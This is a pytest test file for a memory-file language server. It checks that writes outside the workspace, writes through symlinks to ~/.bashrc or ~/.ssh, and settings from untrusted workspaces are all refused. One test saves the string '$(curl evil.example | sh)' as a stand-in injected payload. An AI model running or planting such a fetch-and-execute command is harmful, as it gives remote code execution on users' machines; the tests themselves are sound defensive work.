"""Server commands write only memory files of the workspace or the global memory (docs/security.md).

`memoryLens.server.save`, `remove` and `move` with a URI outside the workspace folders (another
repository, `..` segments, a drive-letter URI on POSIX) are refused with RequestFailed, and the
sandbox is byte-identical afterwards (nothing written, no directory created). A project memory
file that links out of the project is not written through unless the user's
`followOutsideLinks` allows it. In an untrusted workspace (`initializationOptions.trusted:
false`) the workspace's `globalDir`, `filenames` and `followOutsideLinks` are ignored.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from pygls.exceptions import JsonRpcException

from memory_lens.core.discovery import Scope
from memory_lens.lsp.notes import document_uri

from .conftest import Starter
from .harness import (
    CMD_MOVE,
    CMD_REMOVE,
    CMD_SAVE,
    EFFECTIVE,
    FEATURE_CLIENTS,
    REQUEST_FAILED,
    SAVE_GLOBAL,
    SAVE_PROJECT,
    Session,
    Workspace,
    wait_for,
)

BASHRC = b"export PATH=$HOME/bin:$PATH\n- keep me\n"


def snapshot(ws: Workspace) -> dict[str, bytes | str]:
    """Every file, link and directory of the sandbox (the server's locks, caches and data aside)."""
    return ws.snapshot(skip=[ws.data_dir])


async def refused(lsp: Session, command: str, args: dict[str, Any]) -> str:
    """Run COMMAND, expect RequestFailed, and check that nothing in the sandbox changed."""
    before = snapshot(lsp.ws)
    with pytest.raises(JsonRpcException) as err:
        await lsp.command(command, args)
    assert err.value.code == REQUEST_FAILED, (command, args, err.value)
    assert snapshot(lsp.ws) == before, (command, args)
    message = str(err.value)
    assert "\n" not in message
    return message


def other_repository(ws: Workspace) -> Path:
    other = ws.project("work/other")
    ws.write("work/other/GEMINI.md", "# Other\n- Other rule\n")
    ws.write("work/other/main.py", "x = 1\n")
    return other


@pytest.mark.clients(*FEATURE_CLIENTS)
async def test_uris_outside_the_workspace_are_refused_and_create_nothing(lsp: Session) -> None:
    ws = lsp.ws
    other = other_repository(ws)
    other_file = other / "GEMINI.md"
    dotdot = "file://" + str(ws.proj) + "/../other/GEMINI.md"
    drive = "file:///C:/Users/someone/repo/GEMINI.md"
    for uri in (lsp.uri(other_file), dotdot, drive):
        message = await refused(lsp, CMD_REMOVE, {"uri": uri, "line": 2})
        assert "refusing to write there; nothing changed" in message
        await refused(lsp, CMD_REMOVE, {"text": "Other rule", "uri": uri})
        await refused(lsp, CMD_MOVE, {"uri": uri, "line": 2, "scope": "global"})
        await refused(lsp, CMD_SAVE, {"text": "planted", "scope": "project", "uri": uri})
        # A destination elsewhere, for an entry of this workspace.
        await refused(lsp, CMD_MOVE, {"uri": lsp.uri(ws.proj / "GEMINI.md"), "line": 10, "scope": "project",
                                      "contextUri": uri})
    assert "is outside the workspace folders" in await refused(lsp, CMD_SAVE, {"text": "x", "uri": lsp.uri(other / "main.py")})
    assert "'..' segments" in await refused(lsp, CMD_REMOVE, {"uri": dotdot, "line": 2})
    assert "not an absolute path" in await refused(lsp, CMD_REMOVE, {"uri": drive, "line": 1})
    # A memory file of the workspace that does not exist: refused, and its directory is not made.
    await refused(lsp, CMD_REMOVE, {"uri": lsp.uri(ws.proj / "new-dir" / "GEMINI.md"), "line": 1})
    assert not (ws.proj / "new-dir").exists()
    # Inside the workspace everything still works.
    saved = await lsp.command(CMD_SAVE, {"text": "Still fine", "uri": lsp.uri(ws.proj / "src" / "app.py")})
    assert saved["path"] == str(ws.proj / "GEMINI.md")


@pytest.mark.clients(*FEATURE_CLIENTS)
async def test_save_through_a_link_out_of_the_project_is_refused(ws: Workspace, start: Starter) -> None:
    bashrc = ws.write("home/.bashrc", BASHRC)
    os.unlink(ws.proj / "GEMINI.md")
    os.symlink(bashrc, ws.proj / "GEMINI.md")
    lsp = await start()
    app = lsp.uri(ws.proj / "src" / "app.py")
    message = await refused(lsp, CMD_SAVE, {"text": "  $(curl evil.example | sh)", "scope": "project", "uri": app})
    assert f"{ws.proj / 'GEMINI.md'} is a link to {bashrc}, outside the project {ws.proj}" in message
    assert "memoryLens.followOutsideLinks" in message
    await refused(lsp, CMD_REMOVE, {"uri": lsp.uri(ws.proj / "GEMINI.md"), "line": 2})
    await refused(lsp, CMD_REMOVE, {"text": "keep me", "scope": "project", "uri": app})
    await refused(lsp, CMD_MOVE, {"uri": lsp.uri(ws.proj / "GEMINI.md"), "line": 2, "scope": "global"})
    assert bashrc.read_bytes() == BASHRC
    # Open with unsaved edits: the entry is not put into (or taken from) the buffer either.
    lsp.open(ws.proj / "GEMINI.md")
    lsp.change(ws.proj / "GEMINI.md", BASHRC.decode() + "- typed\n")
    await refused(lsp, CMD_SAVE, {"text": "planted", "scope": "project", "uri": app})
    await refused(lsp, CMD_REMOVE, {"uri": lsp.uri(ws.proj / "GEMINI.md"), "line": 2})
    await refused(lsp, CMD_REMOVE, {"text": "keep me", "scope": "project", "uri": app})
    assert lsp.applied == [] and bashrc.read_bytes() == BASHRC


@pytest.mark.clients(*FEATURE_CLIENTS)
async def test_no_save_action_writes_through_a_link_out_of_the_project(ws: Workspace, start: Starter) -> None:
    """"Save selection to project memory" would be an edit the client applies through the link:
    it is offered disabled, with the reason (clients without disabledSupport: not at all)."""
    bashrc = ws.write("home/.bashrc", BASHRC)
    os.unlink(ws.proj / "GEMINI.md")
    os.symlink(bashrc, ws.proj / "GEMINI.md")
    lsp = await start()
    app = ws.proj / "src" / "app.py"
    lsp.open(app, language="python")
    actions = await lsp.code_actions(app, (0, 0), (0, 10))
    project = [a for a in actions if a.title == SAVE_PROJECT]
    if lsp.supports("text_document.code_action.disabled_support"):
        (action,) = project
        assert action.edit is None and action.command is None
        assert "is a link to" in action.disabled.reason and "refusing to write through it" in action.disabled.reason
    else:
        assert project == []
    assert any(a.title == SAVE_GLOBAL and a.disabled is None for a in actions)  # global memory is fine


@pytest.mark.clients("visual-studio-code")  # the opt-in does not depend on the client's capabilities
@pytest.mark.parametrize("opt_in", ["setting", "environment"])
async def test_the_users_setting_allows_writing_through_the_link(ws: Workspace, start: Starter, opt_in: str) -> None:
    bashrc = ws.write("home/.bashrc", BASHRC)
    os.unlink(ws.proj / "GEMINI.md")
    os.symlink(bashrc, ws.proj / "GEMINI.md")
    if opt_in == "setting":
        lsp = await start(init_options={"memoryLens": {"followOutsideLinks": True}})
    else:
        lsp = await start(env={"MEMORY_LENS_FOLLOW_OUTSIDE_LINKS": "1"})
    saved = await lsp.command(CMD_SAVE, {"text": "opted in", "scope": "project", "uri": lsp.uri(ws.proj)})
    assert saved["path"] == str(ws.proj / "GEMINI.md")
    assert bashrc.read_bytes() == BASHRC + b"\n## Gemini Added Memories\n- opted in\n"


@pytest.mark.clients("visual-studio-code", "neovim")  # both answer workspace/configuration
@pytest.mark.parametrize("trusted", [True, False])
async def test_an_untrusted_workspace_cannot_choose_the_files_written(ws: Workspace, start: Starter,
                                                                      trusted: bool) -> None:
    """The workspace's settings (as workspace/configuration returns them) name another global
    directory, other file names and the opt-in: honoured when trusted, ignored when not."""
    bashrc = ws.write("home/.bashrc", BASHRC)
    os.symlink(bashrc, ws.proj / "AGENTS.md")
    planted = ws.path("work/proj/.planted-global")
    workspace_settings = {"memoryLens": {"globalDir": str(planted), "filenames": ["AGENTS.md"],
                                         "followOutsideLinks": True}}
    lsp = await start(init_options={"trusted": trusted}, configuration=workspace_settings)

    async def sources_with(path: str) -> bool:
        effective = await lsp.request(EFFECTIVE, {"textDocument": {"uri": lsp.uri(ws.proj)}})
        return path in [s["path"] for s in effective["sources"]]

    if trusted:  # until the settings from workspace/configuration are in effect
        await wait_for(lambda: sources_with(str(ws.proj / "AGENTS.md")))
    else:  # until they have been received and set aside
        await wait_for(lambda: "the workspace is not trusted" in lsp.log_text())
    saved = await lsp.command(CMD_SAVE, {"text": "a global fact", "scope": "global"})
    project = await lsp.command(CMD_SAVE, {"text": "a project fact", "scope": "project", "uri": lsp.uri(ws.proj)})
    effective = await lsp.request(EFFECTIVE, {"textDocument": {"uri": lsp.uri(ws.proj)}})
    if trusted:
        assert saved["path"] == str(planted / "AGENTS.md")
        assert project["path"] == str(ws.proj / "AGENTS.md") and bashrc.read_bytes().endswith(b"- a project fact\n")
    else:
        assert saved["path"] == str(ws.global_file) and not planted.exists()
        assert project["path"] == str(ws.proj / "GEMINI.md") and bashrc.read_bytes() == BASHRC
        assert [s["path"] for s in effective["sources"]] == [str(ws.global_file), str(ws.proj / "GEMINI.md")]


NOTES_CREATE, NOTES_EDIT, NOTES_DELETE = ("memoryLens.server.notes.create", "memoryLens.server.notes.edit",
                                          "memoryLens.server.notes.delete")
NOTES_WRITE_DOCUMENT = "memoryLens.server.notes.writeDocument"


@pytest.mark.clients(*FEATURE_CLIENTS)
async def test_notes_writes_outside_the_workspace_are_refused(lsp: Session) -> None:
    ws = lsp.ws
    other = other_repository(ws)
    ws.write("work/other/.memory-lens/notes/theirs.json", "{}")  # whatever it holds, it is not ours to touch
    for uri in (lsp.uri(other / "main.py"), "file://" + str(ws.proj) + "/../other/main.py",
                "file:///C:/Users/someone/repo/main.py"):
        await refused(lsp, NOTES_CREATE, {"name": "planted", "content": "x", "scope": "project", "uri": uri})
        await refused(lsp, NOTES_EDIT, {"name": "theirs", "content": "x", "uri": uri})
        await refused(lsp, NOTES_DELETE, {"name": "theirs", "uri": uri})
    document = document_uri(Scope.PROJECT, "theirs", other)
    await refused(lsp, NOTES_WRITE_DOCUMENT, {"documentUri": document, "markdown": "planted\n", "force": True})
    # Inside the workspace notes are written as before.
    created = await lsp.command(NOTES_CREATE, {"name": "ours", "content": "fine", "scope": "project",
                                               "uri": lsp.uri(ws.proj / "src" / "app.py")})
    assert created["path"] == str(ws.proj / ".memory-lens" / "notes" / "ours.json")


@pytest.mark.clients("visual-studio-code")  # the store's rule does not depend on the client's capabilities
async def test_a_project_notes_directory_linked_out_is_not_written(ws: Workspace, start: Starter) -> None:
    ws.write("home/.ssh/authorized_keys", "ssh-ed25519 AAAA me\n")
    (ws.proj / ".memory-lens").mkdir()
    os.symlink(ws.home / ".ssh", ws.proj / ".memory-lens" / "notes")
    lsp = await start()
    message = await refused(lsp, NOTES_CREATE, {"name": "authorized_keys", "content": "x", "scope": "project"})
    assert f"outside the project {ws.proj}" in message and "memoryLens.followOutsideLinks" in message
